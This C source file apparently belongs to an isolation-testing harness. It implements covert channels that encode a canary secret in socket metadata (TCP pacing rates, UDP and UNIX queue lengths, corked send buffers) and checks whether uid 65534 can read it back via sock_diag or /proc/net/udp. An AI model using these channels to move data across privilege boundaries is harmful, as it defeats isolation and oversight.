// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* atkv_diag.c - what sock_diag and /proc tell any user about the agent's sockets (queues, pacing,
 * UNIX peers, UDP receive queues) and the verifiers that read it.
 * Contracts in atkv_diag.h; linked into every attack (atk_variants.h). */
#include <arpa/inet.h>
#include <dirent.h>
#include <linux/inet_diag.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <linux/tcp.h>
#include <linux/unix_diag.h>

#include "atk.h"
#include "atk_variants.h"

/* Reads a NETLINK_SOCK_DIAG dump already requested on s until NLMSG_DONE, calling msg for every
 * message; closes s. The number of messages, or -1 if none could be read. */
static int diag_loop(int s, void (*msg)(const struct nlmsghdr *h, void *arg), void *arg)
{
    static char buf[1 << 16];
    int got = 0;
    for (;;) {
        ssize_t r = recv(s, buf, sizeof(buf), 0);
        if (r <= 0)
            break;
        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)r); h = NLMSG_NEXT(h, r)) {
            if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
                close(s);
                return got;
            }
            got++;
            msg(h, arg);
        }
    }
    close(s);
    return got;
}

struct inet_each {
    void (*each)(const struct inet_diag_msg *m, int type, const void *p, size_t n, void *arg);
    void *arg;
};

static void inet_msg(const struct nlmsghdr *h, void *arg)
{
    const struct inet_each *e = arg;
    const struct inet_diag_msg *m = NLMSG_DATA(h);
    int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
    for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen))
        e->each(m, at->rta_type, RTA_DATA(at), RTA_PAYLOAD(at), e->arg);
}

int atkv_diag_dump(int proto, unsigned ext, unsigned states,
                   void (*each)(const struct inet_diag_msg *m, int type, const void *p, size_t n, void *arg), void *arg)
{
    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
    if (s < 0)
        return -1;
    struct {
        struct nlmsghdr h;
        struct inet_diag_req_v2 r;
    } req = {
        .h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
        .r = {.sdiag_family = AF_INET,
              .sdiag_protocol = (uint8_t)proto,
              .idiag_ext = (uint8_t)ext,
              .idiag_states = states}};
    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
        close(s);
        return -1;
    }
    struct inet_each e = {each, arg};
    return diag_loop(s, inet_msg, &e);
}

struct pacing_rates {
    unsigned char b[1 << 14];
    size_t n;
};

static void pacing_each(const struct inet_diag_msg *m, int type, const void *p, size_t n, void *arg)
{
    (void)m;
    struct pacing_rates *pr = arg;
    if (type != INET_DIAG_INFO || n < sizeof(struct tcp_info) || pr->n + 8 > sizeof(pr->b))
        return;
    struct tcp_info ti;
    memcpy(&ti, p, sizeof(ti));
    memcpy(pr->b + pr->n, &ti.tcpi_max_pacing_rate, 8);
    pr->n += 8;
}

static int chunk_len;
static int pacing_read(struct atk_ctx *c, char *out, size_t n)
{
    (void)c;
    static struct pacing_rates pr;
    pr.n = 0;
    atkv_diag_dump(IPPROTO_TCP, 1 << (INET_DIAG_INFO - 1), 1 << 10 /* TCP_LISTEN */, pacing_each, &pr);
    char msg[64] = {0};
    for (int i = 0; i < 8 && (i + 1) * chunk_len < (int)sizeof(msg); i++) /* chunk i: 0xa0 + i, then its bytes */
        for (size_t k = 0; k + 8 <= pr.n; k += 8)
            if (pr.b[k] == 0xa0 + i)
                memcpy(msg + i * chunk_len, pr.b + k + 1, (size_t)chunk_len);
    snprintf(out, n, "%s", msg);
    return 0;
}

void atkv_pacing_verify(struct atk_ctx *c, const char *tag, int chunk)
{
    if (strcmp(tag, "set") != 0)
        return;
    chunk_len = chunk;
    char got[64] = {0};
    if (atk_as_uid(c, ATK_NOBODY, pacing_read, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 read the canary from the max pacing rates of the agent's TCP listeners "
                        "(NETLINK_SOCK_DIAG, tcp_info)");
}

const char *atkv_shared_file(void) { return access("/etc/hostname", R_OK) == 0 ? "/etc/hostname" : "/bin/busybox"; }

struct unix_collect {
    struct atkv_unix_sock *out;
    int cap, got;
};

static void unix_msg(const struct nlmsghdr *h, void *arg)
{
    struct unix_collect *uc = arg;
    const struct unix_diag_msg *m = NLMSG_DATA(h);
    if (m->udiag_type != SOCK_STREAM || uc->got >= uc->cap)
        return;
    int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
    struct atkv_unix_sock u = {.ino = m->udiag_ino};
    for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen)) {
        if (at->rta_type == UNIX_DIAG_PEER && RTA_PAYLOAD(at) >= 4)
            memcpy(&u.peer, RTA_DATA(at), 4);
        else if (at->rta_type == UNIX_DIAG_RQLEN && RTA_PAYLOAD(at) >= sizeof(struct unix_diag_rqlen))
            u.rq = ((const struct unix_diag_rqlen *)RTA_DATA(at))->udiag_rqueue;
        else if (at->rta_type == UNIX_DIAG_SHUTDOWN && RTA_PAYLOAD(at) >= 1)
            u.sd = *(const unsigned char *)RTA_DATA(at) & 3;
    }
    uc->out[uc->got++] = u;
}

static int unix_cmp(const void *a, const void *b)
{
    const struct atkv_unix_sock *x = a, *y = b;
    return x->ino < y->ino ? -1 : x->ino > y->ino;
}

/* A NETLINK_SOCK_DIAG socket with a dump of the UNIX sockets in `states` requested (show:
 * UDIAG_SHOW_*), for diag_loop; -1 on failure. */
static int unix_diag_request(unsigned states, unsigned show)
{
    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
    if (s < 0)
        return -1;
    struct {
        struct nlmsghdr h;
        struct unix_diag_req r;
    } req = {
        .h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
        .r = {.sdiag_family = AF_UNIX, .udiag_states = states, .udiag_show = show}};
    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
        close(s);
        return -1;
    }
    return s;
}

int atkv_unix_streams(struct atkv_unix_sock *out, int cap)
{
    /* TCP_ESTABLISHED only; UNIX_DIAG_SHUTDOWN is always sent */
    int s = unix_diag_request(1u << 1, UDIAG_SHOW_PEER | UDIAG_SHOW_RQLEN);
    if (s < 0)
        return -1;
    struct unix_collect uc = {out, cap, 0};
    if (diag_loop(s, unix_msg, &uc) < 0)
        return -1;
    qsort(out, (size_t)uc.got, sizeof(out[0]), unix_cmp);
    return uc.got;
}

/* ---- udp_recvq_* */
#define RQ_SOCKS 28 /* one per nibble of the 14-character canary */
#define RQ_N 16

int atkv_udp_recvq_agent(struct atk_ctx *c, char when)
{
    atk_sync(c, "pre");
    int s[RQ_SOCKS];
    struct sockaddr_in nine = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    for (int i = 0; i < RQ_SOCKS; i++) { /* the first of each noted */
        s[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long r = s[i] < 0 ? -1 : sendto(s[i], "x", 1, 0, (struct sockaddr *)&nine, sizeof(nine));
        if (i == 0) {
            atk_try(c, "socket udp", s[i]);
            atk_try(c, when == 'A' ? "sendto 127.0.0.1:9 (autobinds even if refused)" : "sendto 127.0.0.1:9 untainted",
                    r);
        }
    }
    if (when == 'F')
        atk_sync(c, "bound"); /* the outsider queues RQ_N + 1 datagrams on each before the taint */
    if (when != 'A')
        atk_recv(c);
    if (when != 'F')
        atk_sync(c, "bound");
    size_t n = strlen(c->secret);
    int got = 0;
    for (int i = 0; i < RQ_SOCKS; i++) {
        unsigned char j;
        if (s[i] < 0 || recv(s[i], &j, 1, MSG_DONTWAIT) != 1 || j >= RQ_SOCKS || (size_t)j / 2 >= n)
            continue;
        unsigned v = (unsigned char)c->secret[j / 2];
        unsigned nib = j % 2 ? v & 15 : v >> 4;
        for (unsigned k = 0; k < nib; k++)
            if (recv(s[i], &j, 1, MSG_DONTWAIT) != 1)
                break;
        got++;
    }
    atk_note(c, "read an index from %d of %d sockets", got, RQ_SOCKS);
    atk_sync(c, "read"); /* the sockets stay open until the agent exits */
    return 0;
}

int atkv_udp_list(const char *path, struct atkv_udp_sock *out, int cap)
{
    FILE *f = fopen(path, "re");
    if (!f)
        return -1;
    char line[512];
    int n = 0;
    if (!fgets(line, sizeof(line), f)) { /* the header */
        fclose(f);
        return -1;
    }
    while (n < cap && fgets(line, sizeof(line), f)) {
        char addr[40];
        unsigned port, tx, rx, uid;
        unsigned long ino;
        if (sscanf(line, " %*d: %39[0-9A-Fa-f]:%x %*[0-9A-Fa-f]:%*x %*x %x:%x %*x:%*x %*x %u %*d %lu", addr, &port, &tx,
                   &rx, &uid, &ino) == 6)
            out[n++] =
                (struct atkv_udp_sock){ino, uid, strlen(addr) == 8 ? (unsigned)strtoul(addr, NULL, 16) : 0, port, rx};
    }
    fclose(f);
    return n;
}

void atkv_udp_snap_take(const char *path, struct atkv_udp_snap *s)
{
    static struct atkv_udp_sock now[4096];
    int n = atkv_udp_list(path, now, 4096);
    s->n = 0;
    for (int i = 0; i < n; i++)
        s->ino[s->n++] = now[i].ino;
}

int atkv_udp_snap_has(const struct atkv_udp_snap *s, unsigned long ino)
{
    for (int i = 0; i < s->n; i++)
        if (s->ino[i] == ino)
            return 1;
    return 0;
}

int atkv_udp_ports(const char *list, unsigned *ports, int cap)
{
    int n = 0;
    char *p = (char *)list;
    while (n < cap && *p && *p != ';') {
        ports[n++] = (unsigned)strtoul(p, &p, 10);
        if (*p == ',')
            p++;
        else if (*p != ';')
            break;
    }
    return n;
}

int atkv_udp_nibbles(const char *path, unsigned myport, const unsigned *ports, int nports, int rq_n, char *msg,
                     size_t cap)
{
    static struct atkv_udp_sock now[4096];
    int n = atkv_udp_list(path, now, 4096);
    unsigned unit = 0;
    memset(msg, 0, cap);
    for (int i = 0; i < n; i++)
        if (now[i].port == myport)
            unit = now[i].rx;
    if (!unit)
        return -1;
    for (int j = 0; j < nports && (size_t)j / 2 + 1 < cap; j++)
        for (int i = 0; i < n; i++)
            if (now[i].port == ports[j] && now[i].rx % unit == 0 && now[i].rx / unit <= (unsigned)rq_n) {
                unsigned nib = (unsigned)rq_n - now[i].rx / unit;
                msg[j / 2] = (char)(j % 2 ? (msg[j / 2] | (char)nib) : (char)(nib << 4));
            }
    return 0;
}

static struct atkv_udp_snap before;
static unsigned ports[RQ_SOCKS];
static int nports;

/* the outsider sends RQ_N + 1 one-byte datagrams carrying j to each new socket of the agent */
static void send_indexes(struct atk_ctx *c)
{
    static struct atkv_udp_sock now[4096];
    int n = atkv_udp_list("/proc/net/udp", now, 4096);
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    for (int i = 0; s >= 0 && i < n && nports < RQ_SOCKS; i++) {
        if (now[i].uid != (unsigned)c->agent_uid || atkv_udp_snap_has(&before, now[i].ino))
            continue;
        unsigned char j = (unsigned char)nports;
        struct sockaddr_in to = {
            .sin_family = AF_INET, .sin_port = htons((uint16_t)now[i].port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        for (int k = 0; k <= RQ_N; k++)
            if (sendto(s, &j, 1, 0, (struct sockaddr *)&to, sizeof(to)) != 1)
                break;
        ports[nports++] = now[i].port;
    }
    if (s >= 0)
        close(s);
}

/* uid 65534: the rx_queue of each port, in units of one datagram measured on its own socket */
static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t n)
{
    (void)c;
    int r = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), w = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t al = sizeof(a);
    if (r < 0 || w < 0 || bind(r, (struct sockaddr *)&a, sizeof(a)) != 0 ||
        getsockname(r, (struct sockaddr *)&a, &al) != 0 || sendto(w, "j", 1, 0, (struct sockaddr *)&a, al) != 1)
        return 0;
    usleep(20000);
    char msg[RQ_SOCKS / 2 + 1];
    if (atkv_udp_nibbles("/proc/net/udp", ntohs(a.sin_port), ports, nports, RQ_N, msg, sizeof(msg)) == 0)
        snprintf(out, n, "%s", msg);
    return 0;
}

void atkv_udp_recvq_on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "pre") == 0) {
        atkv_udp_snap_take("/proc/net/udp", &before);
        nports = 0;
        return;
    }
    if (strcmp(tag, "bound") == 0) {
        send_indexes(c);
        return;
    }
    if (strcmp(tag, "read") != 0)
        return;
    char got[RQ_SOCKS / 2 + 2] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads_queues, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 read the canary from the receive queues of the agent's UDP sockets (/proc/net/udp "
                        "rx_queue: how many datagrams it read)");
}

/* ---- unix sock_diag, every socket of one type (the *_rqlen attacks) */
struct unix_dump {
    int type, cap, n;
    struct atkv_unix_diag *out;
};

static void unix_dump_msg(const struct nlmsghdr *h, void *arg)
{
    struct unix_dump *d = arg;
    const struct unix_diag_msg *m = NLMSG_DATA(h);
    if (m->udiag_type != d->type || d->n >= d->cap)
        return;
    struct atkv_unix_diag u = {.ino = m->udiag_ino};
    int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
    for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen)) {
        if (at->rta_type == UNIX_DIAG_NAME && RTA_PAYLOAD(at) <= sizeof(u.name)) {
            u.namelen = (int)RTA_PAYLOAD(at);
            memcpy(u.name, RTA_DATA(at), (size_t)u.namelen);
        } else if (at->rta_type == UNIX_DIAG_PEER && RTA_PAYLOAD(at) >= 4)
            memcpy(&u.peer, RTA_DATA(at), 4);
        else if (at->rta_type == UNIX_DIAG_RQLEN && RTA_PAYLOAD(at) >= sizeof(struct unix_diag_rqlen))
            u.rq = ((const struct unix_diag_rqlen *)RTA_DATA(at))->udiag_rqueue;
        else if (at->rta_type == UNIX_DIAG_UID && RTA_PAYLOAD(at) >= 4) {
            memcpy(&u.uid, RTA_DATA(at), 4);
            u.has_uid = 1;
        }
    }
    d->out[d->n++] = u;
}

int atkv_unix_dump(int type, struct atkv_unix_diag *out, int cap)
{
    int s = unix_diag_request(~0u, UDIAG_SHOW_NAME | UDIAG_SHOW_PEER | UDIAG_SHOW_RQLEN | UDIAG_SHOW_UID);
    if (s < 0)
        return -1;
    struct unix_dump d = {type, cap, 0, out};
    diag_loop(s, unix_dump_msg, &d);
    return d.n;
}

int atkv_unix_diag_cmp(const void *a, const void *b)
{
    const struct atkv_unix_diag *x = a, *y = b;
    return x->ino < y->ino ? -1 : x->ino > y->ino;
}

long atkv_file_long(const char *path, const char *fmt)
{
    FILE *f = fopen(path, "re");
    char line[256];
    long v = -1;
    while (f && fgets(line, sizeof(line), f))
        if (sscanf(line, fmt, &v) == 1)
            break;
    if (f)
        fclose(f);
    return v;
}

int atkv_agent_proc_path(struct atk_ctx *c, const char *rel, char *out, size_t n)
{
    DIR *d = c->agent_uid > 0 ? opendir("/proc") : NULL;
    struct dirent *e;
    int r = -1;
    while (d && r < 0 && (e = readdir(d))) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        char p[300];
        snprintf(p, sizeof(p), "/proc/%s/status", e->d_name);
        if (atkv_file_long(p, "Uid: %ld") == c->agent_uid) {
            snprintf(out, n, "/proc/%s/%s", e->d_name, rel);
            r = 0;
        }
    }
    if (d)
        closedir(d);
    return r;
}

void atkv_byte_set(struct atk_ctx *c, int base, int w, int i, unsigned v)
{
    if (i >= 0 && i < 6)
        ((unsigned char *)&c->slot[base + w])[i] = (unsigned char)v;
}

void atkv_bytes6_evidence(struct atk_ctx *c, int base, int nw, const char *what, const char *const *where)
{
    for (int w = 0; w < nw; w++) {
        char got[16];
        const unsigned char *g = (const unsigned char *)&c->slot[base + w];
        snprintf(got, sizeof(got), "%02x%02x%02x%02x%02x%02x", g[0], g[1], g[2], g[3], g[4], g[5]);
        if (strncmp(got, c->canary + 2, 12) == 0) {
            atk_evidence(c, "uid 65534 read the canary from %s in %s", what, where[w]);
            return;
        }
    }
}

void atkv_unix_snap_take(int type, struct atkv_unix_snap *s)
{
    static struct atkv_unix_diag all[8192];
    int n = atkv_unix_dump(type, all, 8192);
    s->n = 0;
    for (int i = 0; i < n; i++)
        s->ino[s->n++] = all[i].ino;
}

int atkv_unix_new(int type, const struct atkv_unix_snap *s, uint32_t uid, int want, struct atkv_unix_diag *out, int cap)
{
    static struct atkv_unix_diag all[8192];
    int n = atkv_unix_dump(type, all, 8192), k = 0;
    for (int i = 0; i < n && k < cap; i++) {
        int old = 0;
        for (int b = 0; b < s->n && !old; b++)
            old = s->ino[b] == all[i].ino;
        if (old || !all[i].has_uid || all[i].uid != uid)
            continue;
        if ((want & ATKV_AUTOBOUND) && (all[i].namelen != 6 || all[i].name[0] != 0))
            continue;
        if ((want & ATKV_QUEUED) && (all[i].rq == 0 || !all[i].peer))
            continue;
        out[k++] = all[i];
    }
    qsort(out, (size_t)k, sizeof(out[0]), atkv_unix_diag_cmp);
    return k;
}

void atkv_dgram_fill(const struct atkv_unix_diag *a, int k, int n, char *out, size_t outn)
{
    static char fill[64];
    int err = 0, sent = 0;
    for (int i = 0; i < k; i++) {
        int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (s < 0) {
            err = errno;
            break;
        }
        struct sockaddr_un to = {.sun_family = AF_UNIX};
        memcpy(to.sun_path, a[i].name, (size_t)a[i].namelen);
        socklen_t tl = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)a[i].namelen);
        unsigned char j = (unsigned char)i;
        int ok = sendto(s, &j, 1, MSG_DONTWAIT, (struct sockaddr *)&to, tl) == 1;
        for (int d = 1; ok && d <= n && d + 1 <= (int)sizeof(fill); d++)
            ok = sendto(s, fill, (size_t)d + 1, MSG_DONTWAIT, (struct sockaddr *)&to, tl) == d + 1;
        if (!ok)
            err = errno;
        sent += ok;
        close(s);
    }
    snprintf(out, outn, "%d of %d sockets filled; %s", sent, k, atk_errname(err));
}

void atkv_dgram_chunks(const struct atkv_unix_diag *a, int k, int n, char *msg, size_t msgn)
{
    if (msgn == 0)
        return;
    memset(msg, 0, msgn);
    for (int j = 0; j < k && (size_t)(j / 4) < msgn - 1; j++) {
        if (a[j].rq < 2 || a[j].rq > (uint32_t)n + 1)
            continue;
        unsigned chunk = a[j].rq - 2;
        msg[j / 4] = (char)((unsigned char)msg[j / 4] | (chunk << (6 - 2 * (j % 4))));
    }
}

int atkv_cork_agent(struct atk_ctx *c, int connected)
{
    static int s[ATKV_CK_SOCKS];
    static char fill[ATKV_CK_SOCKS * 256 + 256];
    long port = atk_argl(c, "udp4");
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((uint16_t)(port > 0 ? port : 9)),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int conn = 0;
    for (int i = 0; i < ATKV_CK_SOCKS; i++) {
        s[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long r = s[i] < 0    ? -1
                 : connected ? connect(s[i], (struct sockaddr *)&to, sizeof(to))
                             : sendto(s[i], "x", 1, MSG_MORE, (struct sockaddr *)&to, sizeof(to)) - 1;
        if (i == 0) {
            atk_try(c, "socket udp", s[i]);
            atk_try(c,
                    connected ? "connect the collector's udp4 (untainted)"
                              : "sendto the collector's udp4, 1 byte MSG_MORE (untainted, corked)",
                    r);
        }
        conn += r == 0;
    }
    atk_note(c, connected ? "connected %d sockets" : "corked %d sockets before the taint", conn);
    atk_recv(c);
    size_t n = strlen(c->secret);
    int done = 0;
    for (int i = 0; i < ATKV_CK_SOCKS && (size_t)i < n; i++) {
        size_t v = (size_t)i * 256 + (unsigned char)c->secret[i];
        long a = connected ? send(s[i], "x", 1, MSG_MORE | MSG_DONTWAIT) : 1;
        long b = a == 1 ? send(s[i], fill, v, MSG_MORE | MSG_DONTWAIT) : -1;
        if (i == 0 && connected)
            atk_try(c, "send 1 byte MSG_MORE (tainted)", a);
        if (i == 0)
            atk_try(c, connected ? "append MSG_MORE" : "append with send(MSG_MORE), no address (tainted)", b);
        done += b == (long)v;
    }
    atk_note(c, connected ? "corked %d sockets" : "appended on %d sockets", done);
    atk_sync(c, "set"); /* the sockets stay open (corked) until the agent exits */
    return 0;
}

static int cork_reads(struct atk_ctx *c, char *out, size_t n)
{
    /* the base: one corked byte on a socket of our own, to the same kind of destination */
    int m = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_in me;
    socklen_t ml = sizeof(me);
    if (m < 0 || connect(m, (struct sockaddr *)&to, sizeof(to)) != 0 || send(m, "x", 1, MSG_MORE) != 1 ||
        getsockname(m, (struct sockaddr *)&me, &ml) != 0)
        return 0;
    FILE *f = fopen("/proc/net/udp", "re");
    if (!f)
        return 0;
    char line[512], msg[ATKV_CK_SOCKS + 1] = {0};
    unsigned base = 0;
    static unsigned tx[4096], uid[4096];
    int k = 0;
    if (!fgets(line, sizeof(line), f)) {
        fclose(f);
        return 0;
    }
    while (k < 4096 && fgets(line, sizeof(line), f)) {
        unsigned port, t, r, u;
        if (sscanf(line, " %*d: %*x:%x %*x:%*x %*x %x:%x %*x:%*x %*x %u", &port, &t, &r, &u) != 4)
            continue;
        if (port == ntohs(me.sin_port))
            base = t;
        tx[k] = t;
        uid[k++] = u;
    }
    fclose(f);
    for (int i = 0; base && i < k; i++) {
        if (uid[i] != (unsigned)c->agent_uid || tx[i] < base)
            continue;
        unsigned v = tx[i] - base;
        if (v / 256 < ATKV_CK_SOCKS && v % 256 >= 0x20 && v % 256 < 0x7f)
            msg[v / 256] = (char)(v % 256);
    }
    snprintf(out, n, "%s", msg);
    return 0;
}

void atkv_cork_on_sync(struct atk_ctx *c, const char *tag, const char *evidence)
{
    if (strcmp(tag, "set") != 0)
        return;
    char got[64] = {0};
    if (atk_as_uid(c, ATK_NOBODY, cork_reads, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "%s", evidence);
}
